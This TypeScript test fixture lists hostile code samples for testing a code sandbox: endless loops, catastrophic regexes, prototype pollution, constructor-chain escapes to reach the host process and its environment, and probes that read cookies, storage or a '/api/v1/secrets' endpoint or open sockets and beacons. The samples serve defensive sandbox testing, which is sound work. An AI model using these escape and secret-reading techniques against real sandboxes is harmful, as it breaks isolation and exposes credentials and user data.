import type { Json } from '../../machinery/json'

/** Code that tries to get out, or to harm: for the tests of every kind of sandbox. */
export interface Hostile {
  readonly what: string
  readonly source: string
  /** What it may answer where it does not fail; `undefined` says that it must fail. */
  readonly answers?: Json
  /** Where it fails: a part of the message. */
  readonly fails?: RegExp
}

/** A probe answers `kept in` when the world around the code has nothing of what it looks for. */
const probe = (what: string, expression: string): Hostile => ({
  what,
  source: `export default async (input) => { try { const found = await (${expression}); return found === undefined ? 'kept in' : 'OUT: ' + String(found).slice(0, 80) } catch { return 'kept in' } }`,
  answers: 'kept in',
})

const STOPPED = /stopped/

/** Holds wherever a person's code runs. */
export const HOSTILE: readonly Hostile[] = [
  { what: 'an endless loop', source: 'export default () => { for (;;); }', fails: STOPPED },
  { what: 'an endless loop while loading', source: 'for (;;); export default () => 1', fails: STOPPED },
  {
    what: 'an endless chain of promises',
    source: 'export default () => { const f = () => Promise.resolve().then(f); return f() }',
    // Whichever limit it meets first: that of time, or that of memory.
    fails: /stopped|too much memory/,
  },
  {
    what: 'a regular expression that never ends',
    source: `export default () => /^(a+)+$/.test('a'.repeat(60) + '!')`,
    fails: STOPPED,
  },
  { what: 'endless recursion', source: 'export default () => { const f = () => f() + 1; return f() }', fails: /./ },
  { what: 'a huge answer', source: `export default () => 'x'.repeat(20_000_000)`, fails: /longer than/ },
  {
    what: 'an answer that refers to itself',
    source: 'export default () => { const a = {}; a.a = a; return a }',
    fails: /./,
  },
  {
    what: 'an answer whose conversion never ends',
    source: 'export default () => ({ toJSON() { for (;;); } })',
    fails: STOPPED,
  },
  {
    what: 'an error whose message never ends',
    source: 'export default () => { throw { get message() { for (;;); } } }',
    fails: STOPPED,
  },
  { what: 'an error that is no error', source: 'export default () => { throw null }', fails: /null/ },
  {
    what: 'an error that is a trap',
    source: `export default () => { throw new Proxy({}, { get() { throw new Error('again') } }) }`,
    fails: /./,
  },
  { what: 'no function', source: 'export default 1', fails: /must export a function/ },
  { what: 'code that does not read', source: 'export default (', fails: /./ },
  {
    what: 'an import',
    source: `import fs from 'node:fs'\nexport default () => fs.readFileSync('/etc/hosts')`,
    fails: /imported/,
  },
  {
    what: 'an import while running',
    source: `export default async () => (await import('node:fs')).readdirSync('/')`,
    fails: /./,
  },
  {
    what: 'an import from a site',
    source: `export default async () => (await import('https://example.com/x.js')).default`,
    fails: /./,
  },
  {
    what: 'a wrapper that is closed early',
    source: 'export default () => 1\n})(exports, module, require); (function () { for (;;); ',
    fails: /./,
  },
  {
    what: 'poisoned prototypes',
    source: `Object.prototype.then = (resolve) => resolve('stolen')
Array.prototype.push = String.prototype.slice = Map.prototype.get = Promise.prototype.then = JSON.stringify = () => { throw new Error('poison') }
export default () => 'fine'`,
    fails: /./,
  },
  {
    what: 'keys that change prototypes',
    source: `export default () => JSON.parse('{"__proto__": {"polluted": true}, "constructor": {"prototype": {"polluted": true}}}')`,
    answers: JSON.parse('{"__proto__": {"polluted": true}, "constructor": {"prototype": {"polluted": true}}}') as Json,
  },
  probe('the host through a constructor', `new Function('return process')().version`),
  probe('the host through its own constructor', `(() => {}).constructor.constructor('return process.env')()`),
  probe('the host through the input', `input?.constructor?.constructor('return process')().version`),
  probe('the host through globalThis', `globalThis.constructor.constructor('return process')().version`),
  probe(
    'the host through an error',
    `(() => { try { null.x } catch (e) { return e.constructor.constructor('return process')().version } })()`,
  ),
  probe(
    'the host through overflow',
    `(() => { const f = () => f(); try { f() } catch (e) { return e.constructor.constructor('return process')().version } })()`,
  ),
  probe(
    'the host through an import that fails',
    `import('x').catch((e) => e.constructor.constructor('return process')().version)`,
  ),
  probe(
    'the host through a stack',
    `(() => { Error.prepareStackTrace = (_, frames) => frames.map((f) => typeof f.getThis()).find((t) => t === 'object' && f.getThis() !== globalThis); const e = new Error(); return e.stack })()`,
  ),
  probe('the caller', `(function f() { return f.caller })()`),
  probe('files', `require('node:fs').readdirSync('/')`),
  probe('a process', `process.version`),
  probe('the environment', `process.env.PATH`),
  probe('the page', `document.title`),
  probe('the page around', `parent.document.title`),
  probe('storage', `localStorage.length`),
  probe('storage for a session', `sessionStorage.length`),
  probe(
    'databases',
    `new Promise((resolve, reject) => { const r = indexedDB.open('orchard'); r.onsuccess = () => resolve('open'); r.onerror = reject })`,
  ),
  probe('a list of databases', `indexedDB.databases().then((all) => all.length)`),
  probe('caches', `caches.keys().then((keys) => keys.length)`),
  probe('cookies', `document.cookie`),
  probe('locks', `navigator.locks.query().then((all) => all.held.length)`),
  probe('files of the origin', `navigator.storage.getDirectory().then(() => 'a directory')`),
  probe('the service worker', `navigator.serviceWorker.ready.then(() => 'one')`),
]

/** Further tries where the code runs in a browser, on a page of `origin`. */
export const hostileToPages = (origin: string): readonly Hostile[] => [
  probe('the site', `fetch('${origin}/escape').then(() => 'an answer')`),
  probe('the site without asking', `fetch('${origin}/escape', { mode: 'no-cors' }).then(() => 'an answer')`),
  probe('the control plane', `fetch('${origin}/api/v1/secrets').then((r) => r.text())`),
  probe(
    'an old way to the site',
    `new Promise((resolve, reject) => { const r = new XMLHttpRequest(); r.open('GET', '${origin}/escape'); r.onload = () => resolve('an answer'); r.onerror = reject; r.send() })`,
  ),
  probe(
    'a socket',
    `new Promise((resolve, reject) => { const s = new WebSocket('${origin.replace('http', 'ws')}/escape'); s.onopen = () => resolve('open'); s.onerror = reject })`,
  ),
  probe('a script of the site', `importScripts('${origin}/escape.js')`),
  probe('a module of the site', `new Function('return import("${origin}/escape.js")')()`),
  probe('a worker of its own', `new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))) && 'a worker'`),
  probe('a channel to the page', `new BroadcastChannel('orchard /') && 'a channel'`),
  probe('the frame', `self.parent?.location.href`),
  probe('a beacon', `navigator.sendBeacon('${origin}/escape') || undefined`),
  {
    what: 'a call that nobody made',
    source: `let done = false
export default () => {
  if (!done) { done = true; dispatchEvent(new MessageEvent('message', { data: { id: 4711, name: 'default', input: 'null' } })) }
  return new Promise(() => {})
}`,
    fails: STOPPED,
  },
  { what: 'ears that are closed', source: `self.onmessage = null; export default () => 1`, fails: STOPPED },
  { what: 'a promise that is never kept', source: `export default () => new Promise(() => {})`, fails: STOPPED },
  {
    what: 'a timer that never rests',
    source: `export default () => new Promise(() => setInterval(() => { for (let i = 0; i < 1e7; i++); }))`,
    fails: STOPPED,
  },
]
